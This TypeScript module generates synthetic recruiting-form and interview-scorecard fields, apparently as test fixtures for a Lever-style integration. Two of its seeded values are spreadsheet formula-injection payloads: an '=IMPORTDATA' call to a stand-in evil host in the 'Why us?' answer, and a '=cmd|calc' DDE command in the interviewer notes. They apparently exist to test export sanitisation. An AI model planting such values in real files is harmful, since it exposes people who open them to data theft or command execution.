import type { Rng } from './random';
import type { Rec } from './types';
import { COMPANIES, TEAMS } from './vocabulary';

const DAY = 86_400_000;

/** Gives a template field its stable id (the same question has the same id on every candidate). */
export type FieldIdOf = (text: string) => string;

/** A profile form / application question set with one field of every Lever field type. */
export function formFields(rng: Rng, fieldId: FieldIdOf, now: number, withValues: boolean): Rec[] {
  const f = (type: string, text: string, value: unknown, extra: Rec = {}): Rec => ({
    id: fieldId(text),
    type,
    text,
    description: '',
    required: false,
    ...extra,
    ...(withValues ? { value } : {}),
  });
  return [
    f('text', 'Current company', rng.pick(COMPANIES)),
    f('textarea', 'Why us?', rng.chance(0.1) ? '=IMPORTDATA("https://evil.example")' : 'Mission and people.'),
    f('dropdown', 'Work authorization', 'Yes', { options: [{ text: 'Yes' }, { text: 'No' }] }),
    f('multiple-select', 'Languages', ['English', 'Portuguese'], {
      options: [{ text: 'English' }, { text: 'Portuguese' }, { text: 'German' }],
    }),
    f('yes-no', 'Open to relocate', rng.pick(['yes', 'no', null])),
    f('date', 'Earliest start', now + rng.int(10, 90) * DAY),
    f('currency', 'Salary expectation', rng.int(40, 120) * 1000, { currency: 'EUR' }),
    f('multiple-choice', 'Preferred team', rng.pick(TEAMS), { options: TEAMS.map((t) => ({ text: t })) }),
    f('university', 'University', rng.chance(0.6) ? 'State University' : null),
    f('code', 'FizzBuzz', 'for (let i = 1; i <= 15; i++) console.log(i)', { language: 'javascript' }),
    f(
      'file-upload',
      'Portfolio',
      rng.chance(0.5) ? { id: rng.uuid(), ext: 'pdf', name: 'portfolio.pdf', size: rng.int(1000, 90000), uploadedAt: now - DAY } : null,
    ),
  ];
}

/** A scorecard: the overall rating, a score, a scorecard of two skills and free text. */
export function feedbackFields(rng: Rng, fieldId: FieldIdOf, withValues: boolean): Rec[] {
  const v = (x: unknown) => (withValues ? { value: x } : {});
  const ratings = ['Strong no hire', 'No hire', 'Hire', 'Strong hire'];
  return [
    {
      id: fieldId('Overall rating'),
      type: 'score-system',
      text: 'Overall rating',
      required: true,
      options: ratings.map((t) => ({ text: t })),
      ...v(rng.pick(ratings)),
    },
    { id: fieldId('Communication'), type: 'score', text: 'Communication', required: false, ...v(rng.pick([1, 2, 3, 4, null])) },
    {
      id: fieldId('Skills'),
      type: 'scorecard',
      text: 'Skills',
      required: false,
      scores: [{ text: 'Coding' }, { text: 'Design' }],
      ...v([
        { score: rng.int(1, 4), comment: '' },
        { score: rng.int(1, 4), comment: 'ok' },
      ]),
    },
    {
      id: fieldId('Notes'),
      type: 'textarea',
      text: 'Notes',
      required: false,
      ...v('Solid answers; =cmd|calc!A0 typed by the interviewer.'),
    },
  ];
}
